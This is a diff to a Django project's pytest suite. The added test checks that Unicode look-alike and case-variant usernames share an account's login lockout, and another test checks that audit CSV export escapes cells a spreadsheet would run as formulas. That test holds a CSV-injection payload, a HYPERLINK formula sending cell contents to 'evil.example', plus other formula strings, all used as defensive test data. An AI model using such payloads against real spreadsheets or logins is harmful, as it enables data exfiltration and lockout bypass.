@@ -180,6 +180,23 @@ def test_the_per_account_lockout_holds_from_every_address(limits, settings):
     assert not AuditEvent.objects.filter(action="login").exists()
 
 
+@pytest.mark.parametrize("path", ["/accounts/login/", "/admin/login/"])
+def test_a_look_alike_username_shares_the_accounts_lockout(limits, path):
+    """Django's form normalises a username with NFKC before authenticating, so the full-width
+    'ｌockme' (U+FF4C) logs in as 'lockme': it must meet lockme's lockout, not a counter of
+    its own. Case variants share it too."""
+    _person("lockme", is_staff=True)
+    for _ in range(3):
+        assert _login(Client(), "lockme", "wrong", path).status_code == 200
+    for variant in ("\uff4cockme", "LOCKME", " lockme ", "\uff4c\uff4f\uff43\uff4b\uff4d\uff45"):
+        client = Client()
+        response = _login(client, variant, "pw-lockme-12345", path)
+        assert response.status_code == 429, variant
+        assert LOCKED in response.content.decode()
+        assert not _logged_in(client)
+    assert not AuditEvent.objects.filter(action="login").exists()
+
+
 def test_behind_the_proxy_the_address_is_the_last_forwarded_entry(limits, settings):
     settings.BEHIND_PROXY = True
     # The proxy appends the peer it saw; the client may prepend anything it likes.
@@ -388,7 +405,7 @@ def test_the_token_endpoint_is_in_the_openapi_schema():
 def test_audit_csv_escapes_cells_a_spreadsheet_would_run_as_formulas(limits):
     payload = '=HYPERLINK("http://evil.example/?"&A1,"click")'
     _login(Client(), payload, "guess")  # a failed login lands the username in the trail
-    bad = ["=1+1", "+1", "-2", "@SUM(A1)", "\tx", "\rx"]
+    bad = ["=1+1", "+1", "-2", "@SUM(A1)", "\tx", "\rx", " =1+1", "\n =1+1", "  @SUM(A1)"]
     for value in bad:
         audit.record(value, "load", model_name=value, target=value, detail=value)
     audit.record("alice", "load", model_name="m1", target="t", detail="fine - and = inside")
